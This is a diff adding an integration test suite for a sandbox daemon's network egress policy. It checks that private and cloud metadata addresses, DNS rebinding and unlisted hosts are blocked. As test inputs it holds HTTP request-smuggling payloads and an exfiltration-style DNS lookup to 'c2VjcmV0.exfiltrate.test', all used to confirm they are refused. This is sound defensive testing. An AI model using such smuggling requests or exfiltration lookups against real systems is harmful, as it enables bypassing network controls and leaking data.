@@ -1,0 +1,332 @@
+/* The way out of a sandbox: who can be reached by what policy, on an internet made of network namespaces. */
+import assert from 'node:assert/strict';
+import { execFileSync } from 'node:child_process';
+import fs from 'node:fs';
+import path from 'node:path';
+import { after, before, describe } from 'node:test';
+
+import { Api } from '../lib/api.mjs';
+import { Daemon, until } from '../lib/daemon.mjs';
+import { test } from '../lib/test.mjs';
+import { inOwnNetwork, Internet } from './internet.mjs';
+import { HOST, METADATA, OTHER, PRIVATE, RESOLVER, WEB, WEB6 } from './zone.mjs';
+
+const sh = (script) => ['bash', '-c', script];
+const curl = (...args) => ['curl', '-sS', '-m', '8', ...args];
+
+/* Talks to an address by hand: what `bytes` (a Python literal) gets back, or the error. */
+const talk = (address, port, bytes) => ['python3', '-c', `
+import socket
+s = socket.socket(socket.AF_INET6 if ':' in '${address}' else socket.AF_INET)
+s.settimeout(5)
+try:
+    s.connect(('${address}', ${port}))
+    s.sendall(${bytes})
+    got = b''
+    while True:
+        piece = s.recv(65536)
+        if not piece: break
+        got += piece
+    print(got.decode('latin1'))
+except OSError as e:
+    print('ERROR', type(e).__name__)
+`];
+
+if (inOwnNetwork(import.meta.url, 'the way out of a sandbox')) {
+  describe('egress', () => {
+    const internet = new Internet();
+    let daemon;
+    let api;
+
+    before(async () => {
+      await internet.start();
+      daemon = new Daemon({ options: ['--egress-resolvers', RESOLVER, '--egress-deny-cidrs', '100.64.0.0/10', '--sandbox-max-sandboxes', '24'] });
+      await daemon.start();
+      api = new Api(daemon);
+    });
+    after(async () => {
+      api.close();
+      await daemon.stop();
+      await internet.stop();
+    });
+
+    const sandbox = async (settings = {}) => {
+      const id = await api.newId();
+      const response = await api.put(`/v1/sandbox/${id}`, JSON.stringify({ image: 'base', ...settings }));
+      assert.equal(response.status, 201, response.text);
+      return id;
+    };
+    const egress = async (id) => (await api.get(`/v1/sandbox/${id}/egress`)).json;
+    const setPolicy = async (id, policy) => {
+      const response = await api.put(`/v1/sandbox/${id}/egress`, JSON.stringify(policy));
+      assert.equal(response.status, 200, response.text);
+    };
+    const out = async (id, argv) => {
+      const result = await api.exec(id, argv);
+      assert.equal(result.code, 0, result.err);
+      return result.out;
+    };
+    const fails = async (id, argv) => {
+      const result = await api.exec(id, argv);
+      assert.notEqual(result.code, 0, result.out);
+      return result.err;
+    };
+
+    describe('by default', () => {
+      let id;
+      before(async () => (id = await sandbox()));
+
+      test('the public internet is there by name and address, in IPv4 and IPv6', async () => {
+        for (const url of ['http://web.test/a', `http://${WEB}/a`, `http://[${WEB6}]/a`])
+          assert.equal(JSON.parse(await out(id, curl(url))).url, '/a');
+        assert.equal(JSON.parse(await out(id, curl('-6', 'http://web.test/'))).at, WEB6);
+        assert.equal(JSON.parse(await out(id, curl('-k', 'https://web.test/'))).tls, 'web.test');
+        assert.equal(JSON.parse(await out(id, sh("head -c 3000000 /dev/zero | curl -sS -m 8 -T - http://web.test/up"))).size, 3000000);
+        assert.equal(await out(id, sh('curl -sS -m 20 http://web.test/bytes/50000000 | wc -c')), '50000000\n');
+      });
+
+      test('a server that speaks first is heard, and half-closed connections work', async () => {
+        assert.equal(await out(id, sh(`exec 3<>/dev/tcp/${WEB}/7777; head -1 <&3; echo more >&3; head -1 <&3`)), '220 ready\nmore\n');
+      });
+
+      test('nothing but the public internet is reached, by address or by name', async () => {
+        for (const address of [PRIVATE, METADATA, '[fd00:ec2::254]', '[fd12::1]', '100.64.0.9', HOST, `[::ffff:${PRIVATE}]`, '[64:ff9b::a01:203]'])
+          await fails(id, curl('-o', '/dev/null', `http://${address}/`));
+        for (const name of ['rebind.test', 'metadata.test', 'host.test', 'loop.test'])
+          assert.match(await fails(id, curl(`http://${name}/`)), /Could not resolve host/);
+        assert.match(await fails(id, curl(`http://${HOST}:${daemon.port}/health`)), /reset|connect/i);
+        assert.match(await fails(id, curl('-L', 'http://web.test/redirect')), /reset|connect/i);
+        assert.ok((await internet.log()).every(({ at }) => at !== PRIVATE && at !== METADATA));
+        const { denied, counters } = await egress(id);
+        const why = (address) => denied.find((entry) => entry.address === address)?.reason;
+        assert.equal(why(PRIVATE), 'private');
+        assert.equal(why(METADATA), 'metadata service');
+        assert.equal(why('fd00:ec2::254'), 'metadata service');
+        assert.equal(why('100.64.0.9'), 'denied by the operator');
+        assert.equal(denied.find(({ host }) => host === 'rebind.test').reason, 'private');
+        assert.ok(counters.deniedConnections >= 8 && counters.deniedQuestions >= 4);
+      });
+
+      test("the host's own address is refused even where it is public", async () => {
+        execFileSync('ip', ['addr', 'add', '93.184.216.99/32', 'dev', 'wan']);
+        try {
+          assert.match(await fails(id, curl(`http://93.184.216.99:${daemon.port}/health`)), /reset|connect/i);
+          assert.ok((await egress(id)).denied.some(({ reason }) => reason === 'an address of the host'));
+        } finally {
+          execFileSync('ip', ['addr', 'del', '93.184.216.99/32', 'dev', 'wan']);
+        }
+      });
+
+      test('of a name with a private and a public address, the public one is told', async () => {
+        assert.equal((await out(id, ['getent', 'ahostsv4', 'mixed.test'])).split(/\s/)[0], WEB);
+      });
+
+      test('questions go to the host\'s resolver whoever is asked, over UDP and TCP; other types and datagrams are refused', async () => {
+        const ask = (server, transport, type) => `
+import socket, struct
+q = b'\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0\\3web\\4test\\0' + struct.pack('>HH', ${type}, 1)
+s = socket.socket(socket.AF_INET, socket.SOCK_${transport === 'udp' ? 'DGRAM' : 'STREAM'}); s.settimeout(5); s.connect(('${server}', 53))
+s.send(q if '${transport}' == 'udp' else struct.pack('>H', len(q)) + q)
+r = s.recv(600)
+r = r if '${transport}' == 'udp' else r[2:]
+print(r[3] & 15, r[7], '.'.join(map(str, r[-4:])))`;
+        for (const server of ['8.8.8.8', '192.0.0.1', PRIVATE])
+          for (const transport of ['udp', 'tcp'])
+            assert.equal(await out(id, ['python3', '-c', ask(server, transport, 1)]), `0 1 ${WEB}\n`, `${server} ${transport}`);
+        assert.match(await out(id, ['python3', '-c', ask('8.8.8.8', 'udp', 16)]), /^4 0 /);
+        assert.match(await fails(id, ['python3', '-c', "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'x', ('8.8.8.8', 123))"]), /PermissionError/);
+      });
+
+      test('bytes, connections and denials are counted, for the sandbox and in the metrics', async () => {
+        const before = (await egress(id)).counters;
+        await out(id, sh('curl -sS -o /dev/null http://web.test/bytes/100000'));
+        await until('the connection has ended', async () => (await egress(id)).counters.openConnections === 0);
+        const { counters } = await egress(id);
+        assert.equal(counters.connections, before.connections + 1);
+        assert.ok(counters.bytesIn - before.bytesIn > 100000 && counters.bytesIn - before.bytesIn < 101000);
+        assert.match((await api.get('/metrics')).text, /^berm_egress_connections_total \d+$/m);
+      });
+    });
+
+    describe('git, pip and npm', () => {
+      before(() => {
+        const at = (...parts) => path.join(internet.www, ...parts);
+        const run = (cwd, ...argv) => execFileSync(argv[0], argv.slice(1), { cwd, stdio: 'pipe', env: { ...process.env, GIT_CONFIG_GLOBAL: '/dev/null' } });
+        fs.mkdirSync(at('work'));
+        run(at('work'), 'git', 'init', '-q', '-b', 'main');
+        fs.writeFileSync(at('work', 'README'), 'cloned\n');
+        run(at('work'), 'git', '-c', 'user.name=a', '-c', 'user.email=a@b', 'add', '.');
+        run(at('work'), 'git', '-c', 'user.name=a', '-c', 'user.email=a@b', 'commit', '-qm', 'one');
+        run(internet.www, 'git', 'clone', '-q', '--bare', 'work', 'repo.git');
+        run(at('repo.git'), 'git', 'update-server-info');
+
+        fs.mkdirSync(at('simple', 'bermtest'), { recursive: true });
+        run(at('simple', 'bermtest'), 'python3', '-c', `
+import zipfile
+z = zipfile.ZipFile('bermtest-1.0-py3-none-any.whl', 'w')
+z.writestr('bermtest.py', 'VALUE = 42')
+z.writestr('bermtest-1.0.dist-info/METADATA', 'Metadata-Version: 2.1\\nName: bermtest\\nVersion: 1.0\\n')
+z.writestr('bermtest-1.0.dist-info/WHEEL', 'Wheel-Version: 1.0\\nGenerator: test\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')
+z.writestr('bermtest-1.0.dist-info/RECORD', 'bermtest.py,,\\nbermtest-1.0.dist-info/METADATA,,\\nbermtest-1.0.dist-info/WHEEL,,\\nbermtest-1.0.dist-info/RECORD,,\\n')
+z.close()`);
+        fs.writeFileSync(at('simple', 'bermtest', 'index.html'), '<a href="bermtest-1.0-py3-none-any.whl">bermtest-1.0-py3-none-any.whl</a>');
+
+        fs.mkdirSync(at('package'));
+        const manifest = { name: 'bermtest', version: '1.0.0', main: 'index.js' };
+        fs.writeFileSync(at('package', 'package.json'), JSON.stringify(manifest));
+        fs.writeFileSync(at('package', 'index.js'), 'module.exports = 42;');
+        run(internet.www, 'tar', 'czf', 'bermtest.tgz', 'package');
+        fs.mkdirSync(at('bermtest'));
+        fs.writeFileSync(at('bermtest', 'index.json'), JSON.stringify({ name: 'bermtest', 'dist-tags': { latest: '1.0.0' },
+          versions: { '1.0.0': { ...manifest, dist: { tarball: 'http://registry.test/bermtest.tgz' } } } }));
+      });
+
+      const install = async (id) => {
+        assert.equal(await out(id, sh('rm -rf /tmp/repo && git clone -q http://other.test/repo.git /tmp/repo && cat /tmp/repo/README')), 'cloned\n');
+        assert.equal(await out(id, sh('rm -rf /tmp/py && (pip install -q --disable-pip-version-check --root-user-action=ignore --target /tmp/py ' +
+          '--index-url http://registry.test/simple --trusted-host registry.test bermtest || python3 -m pip install -q --disable-pip-version-check ' +
+          '--target /tmp/py --index-url http://registry.test/simple --trusted-host registry.test bermtest) >&2 && PYTHONPATH=/tmp/py python3 -c "import bermtest; print(bermtest.VALUE)"')), '42\n');
+        assert.equal(await out(id, sh('rm -rf /tmp/js && mkdir /tmp/js && cd /tmp/js && npm install --silent --no-audit --no-fund --no-update-notifier ' +
+          '--registry http://registry.test/ bermtest >&2 && node -p "require(\'bermtest\')"')), '42\n');
+      };
+
+      test('work with the default policy', async () => install(await sandbox()));
+      test('work where only their hosts are allowed', async () =>
+        install(await sandbox({ egress: { mode: 'deny', hosts: ['other.test', { host: 'registry.test', methods: ['GET'] }] } })));
+    });
+
+    describe('a policy that names hosts', () => {
+      let id;
+      before(async () => (id = await sandbox({ egress: { mode: 'deny', hosts: ['web.test', '*.sub.test',
+        { host: 'other.test', methods: ['GET'], paths: ['/ok/*'] }] } })));
+
+      test('lets their names through, in any spelling', async () => {
+        assert.equal(JSON.parse(await out(id, curl('http://web.test/x'))).at, WEB);
+        assert.equal(JSON.parse(await out(id, curl('-k', 'https://web.test/x'))).tls, 'web.test');
+        assert.equal(JSON.parse(await out(id, curl('http://a.sub.test/x'))).host, 'a.sub.test');
+        for (const host of ['WEB.test', 'web.test:80', 'web.test.'])
+          assert.equal(JSON.parse(await out(id, curl('-H', `Host: ${host}`, `http://${WEB}/x`))).at, WEB);
+      });
+
+      test('refuses everything else, and asks nobody about it', async () => {
+        await internet.log();
+        assert.match(await fails(id, curl('http://registry.test/')), /Could not resolve/);
+        assert.match(await fails(id, curl('http://c2VjcmV0.exfiltrate.test/')), /Could not resolve/);
+        assert.match(await fails(id, curl('http://sub.test/')), /Could not resolve/);
+        assert.deepEqual(await internet.log(), []);
+        assert.equal(await out(id, curl(`http://${OTHER}/`)), 'egress: no host name told\n');
+        assert.match(await fails(id, curl('-k', `https://${WEB}/`)), /reset|connect/i);
+        assert.match(await fails(id, curl('-k', '--resolve', `registry.test:443:${OTHER}`, 'https://registry.test/')), /reset|connect/i);
+        assert.equal(await out(id, curl('--resolve', `registry.test:80:${OTHER}`, 'http://registry.test/')), 'egress: host not allowed\n');
+        assert.equal(await out(id, talk(WEB, 7777, "b'hello\\n'")), 'ERROR ConnectionResetError\n');
+        assert.deepEqual(await internet.log(), []);
+      });
+
+      test('dials an address of the name that was told, not the one that a sandbox chose', async () => {
+        assert.equal(JSON.parse(await out(id, curl('--resolve', `web.test:80:${OTHER}`, 'http://web.test/front'))).at, WEB);
+        assert.equal(JSON.parse(await out(id, curl('-k', '--resolve', `web.test:443:${OTHER}`, 'https://web.test/front'))).at, WEB);
+      });
+
+      test('reads every request of a connection, however it is hidden', async () => {
+        const first = 'GET /1 HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n';
+        const answer = await out(id, talk(WEB, 80, `b'${first}GET /2 HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n'`));
+        assert.match(answer, /"\/1"/);
+        assert.match(answer, /403 Forbidden[^]*another host on the same connection/);
+        for (const smuggled of [
+          'POST / HTTP/1.1\\r\\nHost: web.test\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n',
+          'GET / HTTP/1.1\\r\\nHost: web.test\\r\\nHost: other.test\\r\\n\\r\\n',
+          'GET http://other.test/ HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n',
+          'GET / HTTP/1.1\\r\\nHost: web.test\\r\\n X: y\\r\\n\\r\\n',
+          'GET / HTTP/1.1\\nHost: web.test\\n\\n',
+          'CONNECT other.test:80 HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n',
+        ]) {
+          await internet.log();
+          const text = await out(id, talk(WEB, 80, `b'${smuggled}'`));
+          assert.doesNotMatch(text, /"method"/, smuggled);
+          assert.deepEqual((await internet.log()).filter(({ url }) => url), [], smuggled);
+        }
+      });
+
+      test('holds methods and paths, in clear text; inside TLS, where it could not, it refuses', async () => {
+        assert.equal(JSON.parse(await out(id, curl('http://other.test/ok/1'))).url, '/ok/1');
+        assert.equal(await out(id, curl('http://other.test/no')), 'egress: path not allowed\n');
+        assert.equal(await out(id, curl('-d', 'x', 'http://other.test/ok/1')), 'egress: method not allowed\n');
+        assert.equal(await out(id, curl('--path-as-is', 'http://other.test/ok/../no')), 'egress: ambiguous path\n');
+        assert.match(await fails(id, curl('-k', 'https://other.test/ok/1')), /reset|connect/i);
+        assert.ok((await egress(id)).denied.some(({ reason }) => reason === 'methods and paths cannot be seen inside TLS'));
+      });
+
+      test('lets a WebSocket through as an upgrade', async () => {
+        const text = await out(id, ['python3', '-c', `
+import socket
+s = socket.create_connection(('web.test', 80), 5)
+s.sendall(b'GET / HTTP/1.1\\r\\nHost: web.test\\r\\nConnection: upgrade\\r\\nUpgrade: echo\\r\\n\\r\\n')
+print(s.recv(200).split()[1].decode())
+s.sendall(b'ping'); print(s.recv(10).decode())`]);
+        assert.equal(text, '101\nping\n');
+      });
+    });
+
+    test('a policy changes live: what it does not allow any more ends, the rest goes on', async () => {
+      const id = await sandbox();
+      await out(id, sh(`nohup python3 -c "
+import socket, time
+a = socket.create_connection(('${WEB}', 7777)); b = socket.create_connection(('${OTHER}', 7777))
+a.recv(99); b.recv(99)
+open('/tmp/open', 'w').close()
+b.settimeout(8)
+try: text = repr(b.recv(99))
+except OSError as e: text = type(e).__name__
+a.sendall(b'still'); text += ' ' + a.recv(99).decode()
+open('/tmp/result.new', 'w').write(text); import os; os.rename('/tmp/result.new', '/tmp/result')
+" >/dev/null 2>&1 & `));
+      await until('both are open', async () => (await api.exec(id, ['test', '-e', '/tmp/open'])).code === 0);
+      await setPolicy(id, { mode: 'deny', cidrs: [`${WEB}/32`] });
+      await until('it has seen the end', async () => (await api.exec(id, ['test', '-e', '/tmp/result'])).code === 0);
+      assert.match(await out(id, ['cat', '/tmp/result']), /^(b''|ConnectionResetError) still$/);
+      assert.match(await fails(id, curl(`http://${OTHER}/`)), /reset|connect/i);
+      assert.equal(JSON.parse(await out(id, curl(`http://${WEB}/`))).at, WEB);
+      assert.equal((await api.delete(`/v1/sandbox/${id}/egress`)).json.isDefault, true);
+      assert.equal(JSON.parse(await out(id, curl(`http://${OTHER}/`))).at, OTHER);
+    });
+
+    test('without a network there is none, and no policy to set', async () => {
+      const id = await sandbox({ network: 'none' });
+      assert.equal((await egress(id)).state, 'none');
+      assert.match(await out(id, ['python3', '-c', `
+import socket
+try: socket.create_connection(('${WEB}', 80), 5)
+except OSError as e: print(e.strerror)`]), /unreachable/);
+      assert.equal((await api.put(`/v1/sandbox/${id}/egress`, '{"mode":"allow"}')).status, 409);
+      assert.equal((await api.put(`/v1/sandbox/${id}`, '{"network":"internet"}')).status, 409);
+    });
+
+    test('what could not be kept is refused', async () => {
+      const id = await sandbox();
+      for (const [policy, message] of [[{ mode: 'allow', hosts: ['a.com'] }, /would change nothing/], [{ mode: 'deny', cidrs: ['10.0.0.0/8'] }, /private/],
+        [{ mode: 'deny', headers: {} }, /not a known member/], [{ mode: 'deny', hosts: [{ host: 'a.com', inject: {} }] }, /not a known member/]]) {
+        const response = await api.put(`/v1/sandbox/${id}/egress`, JSON.stringify(policy));
+        assert.equal(response.status, 400, response.text);
+        assert.match(response.json.error, message);
+        assert.equal((await api.put(`/v1/sandbox/${await api.newId()}`, JSON.stringify({ egress: policy }))).status, 400);
+      }
+      assert.equal((await egress(id)).isDefault, true);
+    });
+
+    test('a sandbox and its policy survive the death of the daemon; meanwhile nothing leaves', async () => {
+      const id = await sandbox({ egress: { mode: 'deny', hosts: ['web.test'] } });
+      await out(id, curl('http://web.test/'));
+      await out(id, sh(`nohup bash -c 'while ! test -e /tmp/stop; do curl -s -m 1 -o /dev/null http://${OTHER}/ && touch /tmp/leaked; sleep 0.05; done' >/dev/null 2>&1 &`));
+      await daemon.end('SIGKILL');
+      api.close();
+      await daemon.start();
+      api = new Api(daemon);
+      await until('the way out is up again', async () => (await egress(id)).state === 'up');
+      await out(id, ['touch', '/tmp/stop']);
+      assert.equal(JSON.parse(await out(id, curl('http://web.test/after'))).url, '/after');
+      assert.equal(await out(id, curl(`http://${OTHER}/`)), 'egress: no host name told\n');
+      assert.notEqual((await api.exec(id, ['test', '-e', '/tmp/leaked'])).code, 0);
+      assert.deepEqual((await egress(id)).policy, { mode: 'deny', hosts: ['web.test'] });
+    });
+  });
+}
